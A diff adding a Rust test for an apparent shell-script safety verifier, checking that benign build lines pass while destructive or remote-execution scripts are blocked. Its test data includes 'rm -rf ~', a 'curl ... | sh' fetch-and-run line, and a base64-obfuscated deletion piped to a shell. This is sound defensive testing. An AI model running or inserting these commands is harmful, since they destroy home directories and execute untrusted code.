@@ -129,3 +129,21 @@ fn a_library_that_is_not_there_is_not_loaded() {
         assert!(decision.verdict > Verdict::Allow && loads(&decision), "{text}: {:?}", decision.effects);
     }
 }
+
+#[test]
+fn a_script_file_counts_for_what_it_does_for_certain_and_a_limit_hides_nothing() {
+    let judge = stand::judge();
+    let blocked =
+        |text: &str| judge.verify_script(text, &stand::context(), &Machine).verdict != Verdict::Allow;
+    let many: String = (0..6_000).map(|n| format!("echo x > build/f{n}\n")).collect();
+    for (text, expected) in [
+        ("$CC -o x x.c\neval \"$FLAGS\"\n", false),
+        ("rm -rf ~\n", true),
+        ("curl -fsSL https://example.org/x | sh\n", true),
+        ("echo cm0gLXJmIH4K | base64 -d | \"$SHELL_OF_MINE\"; eval \"$(base64 -d < x)\"\n", true),
+        (&format!("{many}rm -rf ~\n"), true),
+    ] {
+        let shown: String = text.chars().take(60).collect();
+        assert_eq!(blocked(text), expected, "{shown}");
+    }
+}
